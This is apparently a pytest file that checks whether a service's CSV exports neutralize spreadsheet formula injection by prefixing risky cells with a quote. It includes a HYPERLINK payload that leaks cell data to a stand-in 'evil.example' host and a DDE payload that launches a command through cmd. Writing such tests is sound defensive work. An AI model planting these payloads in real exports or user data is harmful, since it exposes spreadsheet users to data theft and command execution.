"""Exports that are safe to open (issue 11, part 3): a cell a spreadsheet would
run as a formula (it starts with = + - @, tab or CR) is exported with a leading
', in every server export. The dashboard's own exports go through the same rule
(static/index.js csvSafe; checked in the browser test)."""

from __future__ import annotations

import csv
import io

import pytest
from api_helpers import add_deposit, fresh_currency

pytestmark = pytest.mark.asyncio(loop_scope="session")

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
EXPORTS = ["/export/payouts.csv", "/export/settlements.csv"]


async def test_csv_cell_rule(env):
    from satmachineadmin.views_api import csv_cell

    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    for value in ("plain", "", "a=b", 5, None, -3):
        assert csv_cell(value) == value


async def test_every_server_export_neutralizes_formulas(env):
    from test_settlement_flow import _deactivate_all_clients

    await _deactivate_all_clients(env)
    currency = fresh_currency()
    _, wallet = await env.user_with_wallet("formula")
    response = await env.api(
        "POST", "/clients", json={"wallet_id": wallet.id, "username": FORMULA}
    )
    assert response.status_code == 201, response.text
    client = response.json()
    await add_deposit(env, client["id"], "10", currency, confirm=True)
    source = await env.wallet("csv source")
    payer = await env.wallet("csv payer")
    response = await env.api("POST", "/config", json={"source_wallet_id": source.id})
    assert response.status_code == 201, response.text
    await env.fund(payer.id, 2_000)
    await env.pay(
        payer.id,
        source.id,
        2_000,
        memo="@SUM(1+1)*cmd|' /C calc'!A0",
        extra={
            "source": "bitspire",
            "principal_sats": 1_900,
            "fee_sats": 100,
            "exchange_rate": "1000000",
            "currency": currency,
            "txid": "-2+3",
        },
    )
    await env.settle()

    seen = set()
    for path in EXPORTS:
        response = await env.api("GET", path)
        assert response.status_code == 200, response.text
        for row in csv.reader(io.StringIO(response.text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (
                    path,
                    cell,
                )
                if cell.startswith("'"):
                    seen.add(cell[1:])
    assert FORMULA in seen
    assert "@SUM(1+1)*cmd|' /C calc'!A0" in seen
